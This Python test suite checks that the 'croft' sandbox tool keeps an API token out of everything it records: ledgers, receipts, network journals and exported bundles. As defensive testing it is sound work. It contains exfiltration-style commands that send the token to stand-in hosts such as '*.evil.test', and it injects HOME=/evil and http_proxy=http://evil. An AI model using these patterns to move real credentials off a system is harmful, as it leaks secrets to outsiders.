#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# session
# timeout: 600
"""L7: a secret that a command has is in nothing that croft writes down, wherever the command puts it."""
import base64
import os
import re
import shutil
import signal
import subprocess
import urllib.parse

import harness
from harness import check
from test_workspace import Repo, probe

NET = ("import os, urllib.request\n"
       "for u in ('http://example.com/%s', 'http://%s.evil.test/', 'http://example.com/?%s'):\n"
       "    try: urllib.request.urlopen(u % os.environ['{0}'], timeout=5)\n"
       "    except Exception: pass\n"
       "try: urllib.request.urlopen(urllib.request.Request('http://example.com/', method=os.environ['{0}']), timeout=5)\n"
       "except Exception: pass\n")
# As a path that is refused, as names of files, in output, arguments, host names, paths and methods of requests.
SPREAD = ("touch /etc/${0} /etc/$(printf %s ${0} | base64 -w0) 2>/dev/null; echo x > w-${0}; mkdir d-${0}; echo y > d-${0}/f;"
          "echo out ${0}; echo err ${0} >&2; printf %s ${0} | od -An -v -tx1 | tr -d ' \\n'; echo;"
          "printf %s ${0} | od -An -v -tx1 | tr -d ' \\n' | tr a-f A-F; echo; printf z%s ${0} | base64 -w0; echo;"
          "cat ${0}/missing 2>/dev/null; echo ${0} | tr a-z A-Z; {1} -c \"$NET\"; true")


def forms(value):
    """Every form that is looked for, by name."""
    raw = value.encode()
    found = {"plain": raw, "lower case": raw.lower(), "upper case": raw.upper(),
             "percent": urllib.parse.quote(value, safe="").encode(), "all percent": b"".join(b"%%%02X" % c for c in raw),
             "hex": raw.hex().encode(), "HEX": raw.hex().upper().encode()}
    for before in range(3):
        digits = base64.b64encode(b"\0" * before + raw)
        found["base64 +%d" % before] = digits[(before * 8 + 5) // 6:(before + len(raw)) * 8 // 6]
    return found


def in_ledger(repo, ref):
    """Every object that the ledger has of its own (not the trees it speaks of), with the payloads taken out of their base64."""
    commits = repo.git("rev-list", ref).split()
    kept = {}
    for c in commits:
        kept["%s commit" % c[:8]] = repo.git("cat-file", "commit", c).encode()
        for line in repo.git("ls-tree", c).splitlines():
            about, name = line.split("\t")
            text = repo.git("cat-file", "blob", about.split()[2]).encode()
            kept["%s %s" % (c[:8], name)] = text
            for i, payload in enumerate(re.findall(rb'"payload":"([A-Za-z0-9+/=]+)"', text)):
                kept["%s %s payload %d" % (c[:8], name, i)] = base64.b64decode(payload)
    return kept


def in_state(repo):
    """
    Files of croft's own; layers, bases and stores are the user's work, secrets are where they belong. What landed is
    listed by name, so that it can be taken back.
    """
    kept = {}
    for where, dirs, names in os.walk(repo.state()):
        if where == repo.state():
            dirs[:] = [d for d in dirs if d not in ("layers", "bases", "repos", "secrets")]
        for name in names:
            path = os.path.join(where, name)
            if os.path.isfile(path) and not where.endswith("/landing"):
                with open(path, "rb") as f:
                    kept[os.path.relpath(path, repo.state())] = f.read()
    return kept


def everything(repo):
    kept = in_state(repo)
    for ref in repo.git("for-each-ref", "--format=%(refname)", "refs/croft/env").split():
        kept.update(in_ledger(repo, ref))
    return kept


def hidden(kept, value, what):
    bad = ["%s in %s" % (form, name) for name, text in kept.items() for form, needle in forms(value).items() if needle in text]
    # A host name is in lower case, and a part of it is told as well as all of it.
    bad += ["most of it in %s" % name for name, text in kept.items() if value[:30].lower().encode() in text.lower()]
    check(not bad, "%s: %s" % (what, "; ".join(sorted(set(bad)))[:2000]))


def place(p, **options):
    p.env.update(API_TOKEN="tok-%s" % os.urandom(20).hex(), SHOWN="shown-%s" % os.urandom(12).hex())
    gateway = os.path.join(os.path.dirname(harness.find_croft()), "croft-gateway")
    check(os.path.exists(gateway), "%s is not built" % gateway)
    shutil.copy(gateway, os.path.dirname(harness.croft))
    return Repo(p, **options)


WANT = ("--env", "API_TOKEN", "--env", "SHOWN", "--allow-host", "example.com")


def spread(name):
    return "export NET=\"%s\"; " % NET.format(name) + SPREAD.replace("{0}", name).replace("{1}", harness.python)


def both(repo, *words):
    """The secret, and what is none: the control."""
    for name in ("SHOWN", "API_TOKEN"):
        repo.sandbox(spread(name), *WANT, *words, rc=0)


@probe("L7-everywhere")
def everywhere(p):
    """Paths, hosts, methods, file names, output, arguments, titles, tests, reviews and landings."""
    repo = place(p)
    token, shown = p.env["API_TOKEN"], p.env["SHOWN"]
    both(repo)
    both(repo, "--as", "test")
    for value in (shown, token):
        repo.croft("exec", "-q", *WANT, repo.name, "--", "/bin/sh", "-c", "exit 3", value, "word", rc=3)
        repo.croft("exec", "-q", *WANT, repo.name, "--", value, rc=127)
    receipt = os.path.join(p.dir, "receipt.json")
    repo.croft("exec", "-q", *WANT, "--json", receipt, repo.name, "--", "/bin/sh", "-c", "touch /etc/$API_TOKEN; true")
    repo.croft("review", repo.name, "--accept-all")
    repo.croft("apply", repo.name)
    kept = everything(repo)
    with open(receipt, "rb") as f:
        kept["--json"] = f.read()
    for name in ("stdout.txt", "receipt.json", "network.jsonl", "statement.dsse.json payload 0", "paths.jsonl", "review.json"):
        check(any(shown.encode() in text for n, text in kept.items() if n.endswith(name)),
              "the control is not in %s: %s" % (name, sorted(kept)))
    for name in (".json", ".net.jsonl"):
        check(any(n.startswith("runs/") and n.endswith(name) and shown.encode() in text for n, text in kept.items()),
              "the control is not in runs/*%s" % name)
    hidden(kept, token, "kept")
    out = os.path.join(p.dir, "bundle")
    repo.croft("evidence", "export", repo.name, out)
    bundle = {}
    for where, _, names in os.walk(out):
        for name in names:
            if name not in ("patch.diff", "report.md", "report.html", "evidence.bundle", "agent-trace.json"):
                with open(os.path.join(where, name), "rb") as f:
                    bundle[name] = f.read()
    check(any(shown.encode() in text for text in bundle.values()), "the control is not in the bundle")
    hidden(bundle, token, "exported")
    # What is the user's own work is as it was.
    check(p.read("w-" + token) == "x\n" and p.read("d-%s/f" % token) == "y\n", "the work did not land")
    repo.croft("evidence", "verify", repo.name)


@probe("L7-staged-run")
def staged_run(p):
    repo = place(p, staged=True)
    both(repo)
    kept = everything(repo)
    check(any(p.env["SHOWN"].encode() in t for n, t in kept.items() if n.endswith("receipt.json")), "the control is not kept")
    hidden(kept, p.env["API_TOKEN"], "kept")
    # A supervisor that is killed: what it noted, and what is made of that.
    for value in (p.env["SHOWN"], p.env["API_TOKEN"]):
        child = p.popen(repo.argv("echo x > made; echo ready >&2; cat", *WANT) + [value], stdin=subprocess.PIPE)
        while b"ready" not in child.stderr.readline():
            check(child.poll() is None, "the command ended")
        hidden(in_state(repo), p.env["API_TOKEN"], "noted while it runs")
        child.send_signal(signal.SIGKILL)
        child.communicate(timeout=harness.WAIT_S)
        repo.croft("ls", env={"API_TOKEN": ""})
    kept = everything(repo)
    check(sum(p.env["SHOWN"].encode() in t and b"croft ended before" in t for t in kept.values()) == 1,
          "the control is not recorded as interrupted")
    hidden(kept, p.env["API_TOKEN"], "kept of an interrupted run")


@probe("L7-direct-run", tiers=harness.TIERS)
def direct_run(p):
    """Without an environment there is no ledger, but a receipt and a network journal."""
    repo = place(p, make=False)
    for name in ("SHOWN", "API_TOKEN"):
        p.run("--direct", *WANT, "--", "/bin/sh", "-c", spread(name))
    kept = in_state(repo)
    for end in (".json", ".net.jsonl"):
        check(any(n.endswith(end) and p.env["SHOWN"].encode() in t for n, t in kept.items()), "the control is not in *%s" % end)
    hidden(kept, p.env["API_TOKEN"], "kept")


def cut_short(repo, name, env):
    """A command whose supervisor is killed, with output and arguments, and the recovery by another one."""
    child = repo.p.popen([harness.croft, "exec", "-q", *WANT, repo.name, "--", "/bin/sh", "-c",
                          "echo said $%s; echo ready >&2; cat" % name, repo.p.env[name]], stdin=subprocess.PIPE)
    while b"ready" not in child.stderr.readline():
        check(child.poll() is None, "the command ended")
    child.send_signal(signal.SIGKILL)
    child.communicate(timeout=harness.WAIT_S)
    repo.croft("exec", "-q", repo.name, "--", "true", env=env)


@probe("L7-interrupted")
def interrupted(p):
    """What a killed supervisor left is recorded without the secret, also by one that does not know it."""
    repo = place(p)
    token, shown = p.env["API_TOKEN"], p.env["SHOWN"]
    cut_short(repo, "SHOWN", {})
    kept = everything(repo)
    check(any(b"said " + shown.encode() in t for n, t in kept.items() if n.endswith("stdout.txt")), "the control is not kept")
    for env in ({}, {"API_TOKEN": "another-value-since-then"}):
        cut_short(repo, "API_TOKEN", env)
    cut_short(repo, "API_TOKEN", {"API_TOKEN": ""})
    kept = everything(repo)
    hidden(kept, token, "kept of interrupted commands")
    check(any(b"said [redacted:value]" in t for n, t in kept.items() if n.endswith("stdout.txt")),
          "with the value known, the rest of the output is not kept")
    check(any(b"left out" in t for t in kept.values()), "output that was left out is not told")
    repo.croft("evidence", "verify", repo.name)


CUT = ("import os, sys\nkeep, at = 262144, int(sys.argv[1])\nt = os.environ['API_TOKEN'] if sys.argv[2] == 'value' else 'ghp_' + sys.argv[3]\n"
       "sys.stdout.write('. ' * ((keep - at) // 2) + '.' * ((keep - at) % 2) + t + ' ' + 'm' * 1000 + ' ' + t"
       " + ' .' * ((keep - at) // 2) + ' ' * ((keep - at) % 2))\n")


@probe("L7-cut")
def cut(p):
    """A secret across the two places where captured output is cut: a known value, and one that is known by its form."""
    repo = place(p)
    token, rest = p.env["API_TOKEN"], os.urandom(18).hex()
    for kind, value in (("value", token), ("form", "ghp_" + rest)):
        for at in (1, 8, 25, len(value) - 1):
            repo.croft("exec", "-q", *WANT, repo.name, "--", harness.python, "-c", CUT, str(at), kind, rest)
    kept = in_ledger(repo, "refs/croft/env/" + repo.record()["id"])
    cuts = [t for n, t in kept.items() if n.endswith("stdout.txt")]
    check(len(cuts) == 8, "not all was captured: %d" % len(cuts))
    for t in cuts:
        left = [x for v in (token, rest) for x in (v[i:i + 8].encode() for i in range(len(v) - 7)) if x in t]
        check(not left, "a piece is kept: %s" % left[:3])
        # The control: the rest is there, and what is not there is counted.
        check(t.count(b".") > 262000 and re.search(rb"\n\[croft: 1\d\d\d bytes left out\]\n", t), "cut elsewhere: %r" % t[262000:263300])


def said(repo, script, *options, rc=0, env=None):
    """What a command of the session says."""
    return repo.croft("exec", "-q", *options, repo.name, "--", "/bin/sh", "-c", script, rc=rc, env=env or {}).out


@probe("L7-session")
def session(p):
    """What a command is given that joins a session: in an option, and in a variable that has another value by then."""
    repo = place(p)
    own, passed, shown = ["tok-%s" % os.urandom(20).hex() for _ in range(2)] + ["shown-%s" % os.urandom(12).hex()]
    receipt = os.path.join(p.dir, "receipt.json")
    repo.croft("up", "-q", *WANT, repo.name)
    for name, value in (("PLAIN", shown), ("MY_TOKEN", own)):
        said(repo, spread(name), "--env", "%s=%s" % (name, value), "--json", receipt, "--label", value)
        check(value in said(repo, "echo got $%s" % name, "--env", "%s=%s" % (name, value)), "%s does not arrive" % name)
    said(repo, spread("API_TOKEN"), env={"API_TOKEN": passed})
    # A value that was given once stays hidden, whoever has it then.
    for value in (shown, own, passed):
        repo.croft("exec", "-q", repo.name, "--", "/bin/sh", "-c", "echo again $0", value)
    live = {n: t for n, t in in_state(repo).items() if "/journal/" in n}
    repo.croft("down", "-q", repo.name)
    kept = everything(repo)
    with open(receipt, "rb") as f:
        kept["--json"] = f.read()
    for name in ("outputs", "receipts.jsonl", "network.jsonl", "payload 0", ".net.jsonl"):
        check(any(shown.encode() in t for n, t in kept.items() if n.endswith(name)), "the control is not in %s: %s" % (name, sorted(kept)))
    check(any(b"again [redacted:value]" in t for t in kept.values()), "nothing was taken out")
    for value in (own, passed, p.env["API_TOKEN"]):
        hidden(kept, value, "kept")
        hidden(live, value, "in the journal")
    repo.croft("evidence", "verify", repo.name)


@probe("L7-session-variables")
def session_variables(p):
    """A command that joins a session is given no more than a single run: croft's own variables and placeholders win."""
    repo = place(p)
    real, other = ["key-%s" % os.urandom(20).hex() for _ in range(2)]
    p.env["FAKE_API_KEY"] = real
    want = ("--secret", "FAKE_API_KEY@example.com", "--allow-host", "example.com")
    script = "echo $FAKE_API_KEY; echo $HOME; echo $CROFT_RUN; echo $http_proxy; echo $EDITOR"
    evil = [w for v in ("FAKE_API_KEY=" + other, "HOME=/evil", "CROFT_RUN=evil", "EDITOR=mine") for w in ("--env", v)]
    single = repo.p.run("--discard", *want, *evil, "--", "/bin/sh", "-c", script).out.split("\n")
    repo.croft("up", "-q", *want, repo.name)
    plain = said(repo, script).split("\n")
    joined = said(repo, script, *evil, "--env", "http_proxy=http://evil").split("\n")
    for out in (single, plain, joined):
        check(out[0] and real not in out[0] and other not in out[0], "no placeholder: %s" % out)
    # Where the sandbox has a network of its own there is no proxy to override.
    check(joined[:2] == plain[:2] and joined[3] == (plain[3] or "http://evil"), "overridden: %s %s" % (plain, joined))
    check(joined[2] not in ("evil", plain[2]) and len(joined[2]) == len(plain[2]), "CROFT_RUN: %s" % joined)
    check(joined[4] == "mine" and single[4] == "mine", "the control is not set: %s" % joined)
    # What a session hides has a maximum; beyond it a command is refused, not recorded in clear.
    many = [[w for i in range(9) for w in ("--env", "S%d_TOKEN=%s" % (i, os.urandom(30000).hex()))] for _ in range(2)]
    said(repo, "true", *many[0])
    said(repo, "true", *many[0])
    r = repo.croft("exec", "-q", *many[1], repo.name, "--", "true", rc=(125, 126))
    check("out of its record" in r.err and "_TOKEN" in r.err, "refused otherwise: %s" % r)
    said(repo, "true")
    repo.croft("down", "-q", repo.name)
    hidden(everything(repo), other, "kept")


if __name__ == "__main__":
    harness.main()
